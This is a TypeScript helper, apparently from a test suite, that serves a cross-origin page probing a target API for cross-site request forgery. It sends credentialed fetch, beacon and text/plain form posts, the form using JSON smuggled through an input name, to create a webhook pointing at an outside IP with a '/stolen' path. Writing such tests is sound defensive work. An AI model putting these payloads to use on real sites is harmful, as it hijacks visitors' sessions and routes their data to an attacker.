import { createServer } from 'node:http'

/**
 * A page on another origin that tries every way a browser offers to create a webhook through the visitor's
 * session on `target`: a simple fetch (no preflight), a JSON fetch (preflighted), a form post and a beacon.
 * It reports what each attempt saw in `#report` once all have settled.
 */
const attackPage = (target: string) => `<!doctype html>
<title>Another site</title>
<form id="form" method="post" action="${target}/v2/webhooks" enctype="text/plain" target="sink">
  <input name='{"data":{"type":"webhook","attributes":{"url":"https://93.184.216.34/form","events":["tracking_request.failed"]},"x":"' value='"}}'>
</form>
<iframe name="sink" title="sink"></iframe>
<pre id="report"></pre>
<script>
const body = JSON.stringify({ data: { type: 'webhook', attributes: { url: 'https://93.184.216.34/stolen', events: ['tracking_request.failed'] } } })
const attempt = (name, run) => run().then((r) => name + ': ' + (r && r.type === 'opaque' ? 'sent blind' : r && r.status), (e) => name + ': ' + e.name)
Promise.all([
  attempt('simple', () => fetch('${target}/v2/webhooks', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body })),
  attempt('json', () => fetch('${target}/v2/webhooks', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/vnd.api+json' }, body })),
  attempt('beacon', async () => ({ status: navigator.sendBeacon('${target}/v2/webhooks', new Blob([body], { type: 'text/plain' })) })),
]).then((lines) => {
  document.getElementById('form').submit()
  setTimeout(() => { document.getElementById('report').textContent = lines.join('\\n') }, 1000)
})
</script>`

/** Serves the attack page at http://host:port/. */
export async function startHostilePage(host: string, port: number, target: string) {
  const server = createServer((_, response) => {
    response.writeHead(200, { 'content-type': 'text/html' }).end(attackPage(target))
  })
  await new Promise<void>((ready, fail) => {
    server.once('error', fail)
    server.listen(port, host, ready)
  })
  return {
    url: `http://${host}:${port}/`,
    stop: () =>
      new Promise<void>((done) => {
        server.closeAllConnections()
        server.close(() => done())
      }),
  }
}
